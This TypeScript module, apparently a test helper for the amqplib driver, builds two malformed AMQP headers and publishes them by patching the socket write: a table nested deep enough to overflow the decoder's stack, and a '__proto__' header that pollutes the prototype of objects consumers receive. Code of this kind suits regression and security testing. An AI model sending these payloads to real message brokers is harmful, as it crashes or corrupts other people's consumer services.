import type { Socket } from 'node:net';
import { type Channel, type ChannelModel, connect, type Options } from 'amqplib';

/** How deep tables have to stand in each other for the driver's decoder to run out of stack, with some room: 56 kB. */
export const FATAL_DEPTH = 8_000;
/** A name of one letter, its type, and the length of the table in it. */
const LEVEL_BYTES = 7;

/** The entries of a table that holds a table that holds a table, as they stand on the wire. */
function nestedTable(depth = FATAL_DEPTH): Buffer {
  const bytes = Buffer.alloc(LEVEL_BYTES * depth);
  for (let level = 0; level < depth; level++) {
    const at = LEVEL_BYTES * level;
    bytes.write('\u0001aF', at, 'latin1');
    bytes.writeUInt32BE(LEVEL_BYTES * (depth - level - 1), at + 3);
  }
  return bytes;
}

export interface RawHeader {
  /** 1 to 255 bytes. */
  readonly name: string;
  /** Type and value as they stand on the wire. */
  readonly field: Buffer;
}

/** A header whose value is a table nested so deep. */
export function nestedHeader(depth = FATAL_DEPTH): RawHeader {
  const table = nestedTable(depth);
  const head = Buffer.from('F\0\0\0\0', 'latin1');
  head.writeUInt32BE(table.length, 1);
  return { name: 'nested', field: Buffer.concat([head, table]) };
}

/** The header `__proto__` with a table of one text, which becomes the prototype of what the driver hands out. */
export function prototypeHeader(name: string, value: string): RawHeader {
  const entry = Buffer.concat([
    Buffer.from([Buffer.byteLength(name)]),
    Buffer.from(`${name}S\0\0\0\0`, 'latin1'),
    Buffer.from(value),
  ]);
  entry.writeUInt32BE(Buffer.byteLength(value), 2 + Buffer.byteLength(name));
  const head = Buffer.from('F\0\0\0\0', 'latin1');
  head.writeUInt32BE(entry.length, 1);
  return { name: '__proto__', field: Buffer.concat([head, entry]) };
}

type RawPublish = Options.Publish & { readonly body?: string };

/** `publishRawOn`, by a connection of its own. */
export async function publishRaw(
  url: string,
  exchange: string,
  routingKey: string,
  header: RawHeader,
  options: RawPublish = {},
): Promise<void> {
  const connection = await connect(url);
  try {
    const channel = await connection.createConfirmChannel();
    publishRawOn(connection, channel, exchange, routingKey, header, options);
    await channel.waitForConfirms();
  } finally {
    await connection.close();
  }
}

/**
 * Publishes a header that the driver itself cannot write: a text of the same length is exchanged on its way to the socket.
 */
export function publishRawOn(
  { connection }: ChannelModel,
  channel: Channel,
  exchange: string,
  routingKey: string,
  header: RawHeader,
  { body = '1', ...options }: RawPublish = {},
): void {
  // a text has five bytes in front of it: its type and its length
  const text = 'P'.repeat(header.field.length - 5);
  const stand = Buffer.from(`S\0\0\0\0${text}`, 'latin1');
  stand.writeUInt32BE(text.length, 1);
  const { stream } = connection as unknown as { readonly stream: Socket };
  const write = stream.write.bind(stream) as (chunk: Buffer) => boolean;
  stream.write = (chunk: Uint8Array | string) => {
    const bytes = Buffer.from(chunk as Uint8Array);
    const at = bytes.indexOf(stand);
    if (at < 0) return write(bytes);
    bytes.write(header.name, at - header.name.length, 'latin1');
    header.field.copy(bytes, at);
    stream.write = write as Socket['write'];
    return write(bytes);
  };
  const headers = { ...(options.headers as object | undefined), ['p'.repeat(header.name.length)]: text };
  channel.publish(exchange, routingKey, Buffer.from(body), { ...options, headers });
}
